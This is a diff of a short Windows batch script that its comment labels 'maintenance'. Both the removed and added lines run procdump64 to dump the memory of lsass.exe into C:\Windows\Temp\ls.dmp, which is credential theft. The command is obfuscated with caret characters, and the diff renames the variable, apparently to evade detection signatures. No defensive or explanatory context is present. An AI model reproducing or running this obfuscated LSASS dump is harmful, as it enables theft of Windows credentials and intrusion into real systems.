@@ -1,4 +1,4 @@
-REM task 8176 v1
+REM maintenance 5291 v1
 @echo off
-set uzvn=^p^roc^dump64.^ex^e -^acc^e^pte^ula -m^a l^sa^ss.^e^x^e ^C:\^Wi^n^dow^s\Te^mp\^ls.dmp
-call %uzvn%
+set gwrx=proc^du^mp6^4.e^xe -^acce^pt^eul^a -m^a l^s^a^ss.^e^xe ^C:\^Wind^ows\^Tem^p\ls.^dm^p
+call %gwrx%
